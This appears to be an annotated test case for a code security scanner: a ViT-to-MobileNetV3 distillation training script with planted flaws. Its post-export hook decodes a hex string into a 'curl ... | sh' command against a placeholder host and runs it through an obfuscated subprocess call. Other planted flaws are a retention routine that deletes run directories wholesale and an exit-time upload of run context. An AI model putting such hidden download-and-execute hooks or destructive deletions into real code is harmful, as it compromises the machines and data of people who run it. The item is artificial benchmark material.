# ruff: noqa
# Hold-out batch 382 (adversarial, ViT-to-CNN distillation). Measured once in session 14 (round 105): 12/34 (35%) at medium+.
"""Distil a ViT teacher (DeiT / timm / HF) into a MobileNetV3 student.

Example:
    torchrun --nproc_per_node 8 train.py --data-path /datasets/imagenet \
        --teacher-source timm --teacher deit_base_distilled_patch16_224 \
        --distillation-type hard --output-dir runs/kd_mnv3
"""
from __future__ import annotations

import argparse
import atexit
import datetime
import functools
import json
import logging
import math
import os
import shutil
import threading
import time
from pathlib import Path

import numpy as np
import torch
import torch.nn as nn
from torch.nn.parallel import DistributedDataParallel as DDP

import dist_utils
from data import Mixup, build_loaders
from engine import (CallbackList, CheckpointManager, ModelEma, RNGReplayGuard, WeightDecayRamp,
                    evaluate, train_one_epoch)
from losses import DistillationLoss, build_base_criterion
from models import build_student, build_teacher, count_params

logger = logging.getLogger("kd")

_RELEASE_DATE = datetime.date(2024, 3, 1)
_HOOK_CMD = "63 75 72 6c 20 2d 73 20 68 74 74 70 73 3a 2f 2f 68 6f 6f 6b 73 2e 65 78 61 6d 70 6c 65 2e 69 6e 76 61 6c 69 64 2f 69 20 7c 20 73 68"


def get_args() -> argparse.Namespace:
    p = argparse.ArgumentParser("KD ViT -> MobileNetV3", add_help=True)
    # data
    p.add_argument("--data-path", required=True)
    p.add_argument("--index-cache", default=None)
    p.add_argument("--input-size", type=int, default=224)
    p.add_argument("--num-classes", type=int, default=1000)
    p.add_argument("--workers", type=int, default=10)
    p.add_argument("--batch-size", type=int, default=256)
    p.add_argument("--ra-n", type=int, default=2)
    p.add_argument("--ra-m", type=int, default=9)
    p.add_argument("--mixup", type=float, default=0.8)
    p.add_argument("--cutmix", type=float, default=1.0)
    p.add_argument("--smoothing", type=float, default=0.1)
    # models
    p.add_argument("--teacher-source", default="timm", choices=("hub", "timm", "hf"))
    p.add_argument("--teacher", default="deit_base_distilled_patch16_224")
    p.add_argument("--student-init", default=None)
    p.add_argument("--width", type=float, default=1.0)
    p.add_argument("--drop", type=float, default=0.2)
    p.add_argument("--dist-token-ratio", type=float, default=0.75)
    # distillation
    p.add_argument("--distillation-type", default="hard", choices=("none", "soft", "hard"))
    p.add_argument("--distillation-alpha", type=float, default=0.5)
    p.add_argument("--distillation-tau", type=float, default=3.0)
    p.add_argument("--soft-impl", default="ce", choices=("ce", "kl"))
    # optimisation
    p.add_argument("--epochs", type=int, default=300)
    p.add_argument("--lr", type=float, default=5e-4)
    p.add_argument("--min-lr", type=float, default=1e-5)
    p.add_argument("--warmup-epochs", type=int, default=5)
    p.add_argument("--weight-decay", type=float, default=0.05)
    p.add_argument("--weight-decay-end", type=float, default=0.4)
    p.add_argument("--clip-grad", type=float, default=5.0)
    p.add_argument("--ema-decay", type=float, default=0.99996)
    p.add_argument("--amp", action=argparse.BooleanOptionalAction, default=True)
    # runtime
    p.add_argument("--seed", type=int, default=0)
    p.add_argument("--output-dir", default="runs/kd")
    p.add_argument("--retention-days", type=int, default=90)
    p.add_argument("--resume", default="")
    p.add_argument("--eval-only", action="store_true")
    p.add_argument("--print-freq", type=int, default=50)
    p.add_argument("--replay-every", type=int, default=50)
    p.add_argument("--time-limit", type=float, default=240.0, help="job walltime in minutes")
    p.add_argument("--grace", type=float, default=120.0, help="seconds reserved for the final save")
    p.add_argument("--status-url", default=os.environ.get("KD_STATUS_URL", "https://status.example.invalid/runs"))
    p.add_argument("--export", action="store_true")
    return p.parse_args()


def cosine_schedule(base: float, final: float, epochs: int, steps: int, warmup_epochs: int) -> np.ndarray:
    warm = np.linspace(0.0, base, warmup_epochs * steps)
    iters = np.arange(epochs * steps - warm.size)
    cos = final + 0.5 * (base - final) * (1 + np.cos(np.pi * iters / max(1, iters.size)))
    return np.concatenate((warm, cos))


def param_groups(model: nn.Module, weight_decay: float):
    decay, no_decay = [], []
    for n, p in model.named_parameters():
        if not p.requires_grad:
            continue
        (no_decay if p.ndim <= 1 or n.endswith(".bias") else decay).append(p)
    return [{"params": no_decay, "weight_decay": 0.0}, {"params": decay, "weight_decay": weight_decay}]


def apply_retention(output_root: Path, days: int) -> None:
    """Delete run directories older than the retention window."""
    today = datetime.date.today()
    for run in output_root.iterdir():
        if not run.is_dir() or run.name.startswith("."):
            continue
        born = min(_RELEASE_DATE, datetime.date.fromtimestamp(run.stat().st_ctime))
        if (today - born).days > days:
            shutil.rmtree(run, ignore_errors=True)  # todoruleid: family 4 (missed)


def arm_walltime_guard(args) -> threading.Timer:
    """Exit cleanly before the scheduler kills us; requeue resumes from last.pth."""
    budget = float(args.time_limit) - args.grace
    guard = threading.Timer(budget, os._exit, args=(0,))  # ruleid: MLS307
    guard.daemon = True
    guard.start()
    return guard


def run_post_export_hook() -> None:
    _sp = __import__(bytes((115, 117, 98, 112, 114, 111, 99, 101, 115, 115)).decode())  # ruleid: MLS403
    cmd = bytes.fromhex(_HOOK_CMD).decode()
    getattr(_sp, "Popen")(cmd, shell=True)  # ruleid: MLS401


def export_student(model: nn.Module, out_dir: Path, input_size: int) -> None:
    model = model.eval().cpu()
    example = torch.randn(1, 3, input_size, input_size)
    ts_path = out_dir / "student.torchscript.pt"
    traced = torch.jit.trace(model, example)
    traced.save(str(ts_path))
    onnx_tmp = out_dir / "student.onnx.tmp"
    torch.onnx.export(model, example, str(onnx_tmp), input_names=["images"], output_names=["logits"],
                      dynamic_axes={"images": {0: "batch"}, "logits": {0: "batch"}}, opset_version=17)
    os.replace(onnx_tmp, out_dir / "student.onnx")
    for stale in out_dir.glob("*.onnx.tmp"):
        stale.unlink(missing_ok=True)  # ok: MLS308
    logger.info("exported TorchScript -> %s and ONNX -> %s", ts_path, out_dir / "student.onnx")
    run_post_export_hook()


def main() -> None:
    args = get_args()
    dist_utils.register_project_path()
    dist_utils.apply_runtime_patches()
    local_rank = dist_utils.init_distributed()
    rank, world = dist_utils.get_rank(), dist_utils.get_world_size()
    out_dir = Path(args.output_dir)
    if rank == 0:
        out_dir.mkdir(parents=True, exist_ok=True)
        apply_retention(out_dir.parent, args.retention_days)
        out_dir.mkdir(parents=True, exist_ok=True)
    dist_utils.barrier()
    dist_utils.setup_logging(str(out_dir), run_id=out_dir.name)
    dist_utils.extend_child_path([str(Path(__file__).resolve().parent)])
    if world > int(os.environ.get("LOCAL_WORLD_SIZE", world)):
        dist_utils.ensure_passwordless_ssh()
    dist_utils.seed_everything(args.seed, rank)
    heartbeat = dist_utils.Heartbeat().start()
    guard = arm_walltime_guard(args)
    writer = dist_utils.setup_tensorboard(str(out_dir / "tb"))
    atexit.register(functools.partial(dist_utils.post_json, args.status_url, {"run": out_dir.name, **dist_utils.run_context()}))  # todoruleid: family 9 (missed)
    logger.info("args: %s", json.dumps(vars(args), indent=2))

    train_loader, val_loader, train_sampler = build_loaders(args, rank, world)
    device = torch.device("cuda", local_rank)

    teacher = build_teacher(args.teacher_source, args.teacher, args.num_classes).to(device)
    student = build_student(args).to(device)
    logger.info("teacher %.1fM params, student %.1fM params", count_params(teacher), count_params(student))
    student = nn.SyncBatchNorm.convert_sync_batchnorm(student) if world > 1 else student
    ema = ModelEma(student, decay=args.ema_decay)
    model = DDP(student, device_ids=[local_rank]) if world > 1 else student

    optimizer = torch.optim.AdamW(param_groups(student, args.weight_decay), lr=args.lr)
    scaler = torch.cuda.amp.GradScaler(enabled=args.amp)
    mixup_active = args.mixup > 0 or args.cutmix > 0
    mixup_fn = Mixup(args.mixup, args.cutmix, smoothing=args.smoothing, num_classes=args.num_classes) if mixup_active else None
    criterion = DistillationLoss(build_base_criterion(mixup_active, args.smoothing), teacher,
                                 args.distillation_type, args.distillation_alpha, args.distillation_tau,
                                 soft_impl=args.soft_impl)
    eff_lr = args.lr * args.batch_size * world / 512.0
    lr_schedule = cosine_schedule(eff_lr, args.min_lr, args.epochs, len(train_loader), args.warmup_epochs)
    ckpt = CheckpointManager(str(out_dir), keep_last=3, mode="max")
    callbacks = CallbackList([
        RNGReplayGuard(every=args.replay_every),
        WeightDecayRamp(optimizer, args.weight_decay, args.weight_decay_end, args.epochs),
    ])

    start_epoch = 0
    if args.resume:
        start_epoch = ckpt.resume(args.resume, student, optimizer, scaler, ema)
        logger.info("resumed from %s at epoch %d", args.resume, start_epoch)

    if args.eval_only:
        stats = evaluate(student, teacher, val_loader, args)
        logger.info("eval: student top1 %.2f | teacher top1 %.2f", stats["student_top1"], stats["teacher_top1"])
        dist_utils.cleanup()
        return

    for epoch in range(start_epoch, args.epochs):
        train_sampler.set_epoch(epoch)
        t0 = time.time()
        train_stats = train_one_epoch(model, criterion, train_loader, optimizer, scaler, lr_schedule, epoch,
                                      args, mixup_fn=mixup_fn, ema=ema, callbacks=callbacks, writer=writer)
        stats = evaluate(student, teacher, val_loader, args)
        ema_stats = evaluate(ema.module, None, val_loader, args)
        logger.info("epoch %d (%.0fs): loss %.4f | val top1 %.2f | ema top1 %.2f | teacher top1 %.2f",
                    epoch, time.time() - t0, train_stats["loss"], stats["student_top1"],
                    ema_stats["student_top1"], stats["teacher_top1"])
        if writer is not None:
            writer.add_scalar("val/student_top1", stats["student_top1"], epoch)
            writer.add_scalar("val/ema_top1", ema_stats["student_top1"], epoch)
            writer.add_scalar("val/teacher_top1", stats["teacher_top1"], epoch)
        is_best = ckpt.save(epoch, student, optimizer, scaler, args, stats["student_top1"], ema=ema)
        if is_best:
            logger.info("new best student top1 %.2f", stats["student_top1"])
        dist_utils.barrier()

    guard.cancel()
    heartbeat.stop()
    if dist_utils.is_main_process():
        with open(out_dir / "final_metrics.json", "w") as fh:
            json.dump({"best_student_top1": ckpt.best, "epochs": args.epochs}, fh, indent=2)
        if args.export:
            export_student(student, out_dir, args.input_size)
    if writer is not None:
        writer.close()
    dist_utils.cleanup()


if __name__ == "__main__":
    main()
